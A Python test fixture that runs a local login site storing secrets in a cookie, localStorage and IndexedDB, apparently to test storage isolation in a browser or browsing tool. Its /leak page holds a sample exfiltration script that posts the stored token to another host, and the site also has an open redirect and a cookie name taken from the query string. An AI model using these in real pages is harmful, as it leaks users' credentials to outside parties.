"""A site that lets nobody in without its cookie, its token in local storage and its key in IndexedDB, all three."""

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from secrets import token_hex
from urllib.parse import parse_qs, urlsplit

PASSWORD = "correct horse battery"
_FORM = "<title>Sign in</title><form method=post action=/in><input name=password type=password></form>"
_ENTER = """<title>Entering</title><p id=state>entering</p><script>
const [token, key] = %s;
localStorage.setItem('token', token);
const opening = indexedDB.open('keys', 1);
opening.onupgradeneeded = () => opening.result.createObjectStore('keys');
opening.onsuccess = () => {
  const write = opening.result.transaction('keys', 'readwrite');
  write.objectStore('keys').put(key, 'mine');
  write.oncomplete = () => { state.textContent = 'Signed in'; };
};
</script>"""
_HOME = """<title>Home</title><p id=state>looking</p><script>
const opening = indexedDB.open('keys', 1);
opening.onupgradeneeded = () => opening.result.createObjectStore('keys');
opening.onsuccess = () => {
  const read = opening.result.transaction('keys').objectStore('keys').get('mine');
  read.onsuccess = async () => {
    const answer = await fetch('/who', {headers: {token: localStorage.getItem('token') || '', key: read.result || ''}});
    state.textContent = await answer.text();
  };
};
</script>"""
_LEAK = """<title>Leak</title><p id=state>trying</p><img src="http://%(other)s/img?leak">
<script src="http://%(other)s/script.js"></script><iframe src="http://%(other)s/frame"></iframe>
<img src="/bounce?to=http://%(other)s/bounced">
<iframe name=inner></iframe>
<form id=f target=inner action="http://%(other)s/form"></form><script>
const tries = [
  fetch('http://%(other)s/post', {method: 'POST', mode: 'no-cors', body: localStorage.getItem('token')}),
  fetch('http://%(other)s/get', {mode: 'no-cors'}),
];
navigator.sendBeacon('http://%(other)s/beacon', 'x');
f.submit();
Promise.allSettled(tries).then(() => { state.textContent = 'tried everything'; });
</script>"""


class LoginSite:
    """`heard`: every path that was asked for; `cookies`: what came with each GET;
    `sessions`: cookie -> token and key that belong to it."""

    def __init__(self, other: str = "") -> None:
        self.other = other
        self.heard: list[str] = []
        self.cookies: list[str] = []
        self.sessions: dict[str, tuple[str, str]] = {}
        self._http = ThreadingHTTPServer(("127.0.0.1", 0), type("Site", (_Handler,), {"site": self}))
        self._thread = threading.Thread(target=self._http.serve_forever, args=(0.05,), daemon=True)
        self._thread.start()

    @property
    def domain(self) -> str:
        return f"127.0.0.1:{self._http.server_port}"

    def url(self, path: str) -> str:
        return f"http://{self.domain}{path}"

    @property
    def secrets(self) -> list[str]:
        """Everything that must stay between browser and site."""
        return [PASSWORD, *self.sessions, *(part for pair in self.sessions.values() for part in pair)]

    def close(self) -> None:
        self._http.shutdown()
        self._http.server_close()
        self._thread.join()


class _Handler(BaseHTTPRequestHandler):
    site: LoginSite

    def do_GET(self) -> None:
        self.site.heard.append(self.path)
        self.site.cookies.append(self.headers.get("Cookie", ""))
        parts = urlsplit(self.path)
        match parts.path:
            case "/login":
                self._send(_FORM)
            case "/home":
                self._send(_HOME)
            case "/who":
                right = self.site.sessions.get(self._session)
                shown = (self.headers.get("token", ""), self.headers.get("key", ""))
                self._send("Welcome Ada" if right and shown == right else "Who are you?")
            case "/echo":
                self._send(f"<title>Echo</title><p>Your session is {self._session}</p>")
            case "/note":
                name = parts.query
                self._send(f"<title>Noted</title><p>Noted {name}</p>", cookie=f"{name}=noted; Path=/; Max-Age=9999")
            case "/leak":
                self._send(_LEAK % {"other": self.site.other})
            case "/bounce":
                self.send_response(302)
                self.send_header("Location", parse_qs(parts.query)["to"][0])
                self.end_headers()
            case _:
                self._send("")

    def do_POST(self) -> None:
        self.site.heard.append(self.path)
        body = self.rfile.read(int(self.headers.get("Content-Length", 0))).decode()
        if parse_qs(body).get("password") != [PASSWORD]:
            self._send(_FORM)
            return
        session, token, key = token_hex(16), token_hex(16), token_hex(16)
        self.site.sessions[session] = (token, key)
        self._send(_ENTER % json.dumps([token, key]), cookie=f"session={session}; Path=/; HttpOnly; Max-Age=9999")

    @property
    def _session(self) -> str:
        pairs = (pair.strip().partition("=") for pair in self.headers.get("Cookie", "").split(";"))
        return next((value for name, _, value in pairs if name == "session"), "")

    def _send(self, body: str, cookie: str = "") -> None:
        content = body.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(content)))
        if cookie:
            self.send_header("Set-Cookie", cookie)
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, format: str, *args: object) -> None:
        pass
